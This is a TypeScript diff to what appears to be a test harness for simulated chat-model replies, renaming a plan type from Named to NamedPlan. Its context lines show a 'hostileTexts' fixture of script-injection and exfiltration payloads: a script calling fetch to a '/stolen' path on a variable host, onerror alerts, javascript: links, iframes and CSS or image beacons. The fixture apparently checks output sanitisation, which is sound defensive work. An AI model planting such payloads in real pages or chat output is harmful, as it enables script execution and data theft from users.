@@ -155,11 +155,11 @@ export const hostileTexts = {
     `<script>fetch('${host}/stolen')</script><img src="${host}/pixel.png" onerror="alert(1)"> ![figura](${host}/figure.png) [pulse aquí](${host}/link) <a href="${host}/link">aquí</a> <iframe src="${host}/frame"></iframe> [x](javascript:alert(1)) <style>body{background:url(${host}/css)}</style> [[1|"<img src=${host}/quote.png>"]] ${host}/bare`,
 } as const
 
-type Named = (asked: AskedChat, options: Readonly<Record<string, string>>) => Plan
+type NamedPlan = (asked: AskedChat, options: Readonly<Record<string, string>>) => Plan
 
 const number = (text: string | undefined, fallback: number): number => (text === undefined ? fallback : Number(text))
 const broken =
-  (ending: Ending): Named =>
+  (ending: Ending): NamedPlan =>
   (asked, { after }) => ({ ...honest(asked), ending, after: number(after, 5) })
 
 /** By the names that a question may use. */
@@ -204,7 +204,7 @@ export const plans = {
   drip: (asked, { ms }) => ({ ...honest(asked), byteMs: number(ms, 1_000) }),
   no_usage: (asked) => ({ ...honest(asked), noUsage: true }),
   thinks: (asked, { tokens }) => ({ ...honest(asked), thinks: number(tokens, 64) }),
-} satisfies Record<string, Named> as Record<PlanName, Named>
+} satisfies Record<string, NamedPlan> as Record<PlanName, NamedPlan>
 
 export type PlanName =
   | 'honest'
@@ -242,7 +242,7 @@ export type PlanName =
 /** What the question itself asks for, the last one if several. */
 export function askedFor(asked: AskedChat): Plan | null {
   const [, name = '', rest = ''] = [...questionOf(asked).matchAll(/\(stand-in: ([a-z_]+)([^)]*)\)/g)].at(-1) ?? []
-  const plan = (plans as Partial<Record<string, Named>>)[name]
+  const plan = (plans as Partial<Record<string, NamedPlan>>)[name]
   return plan
     ? plan(
         asked,
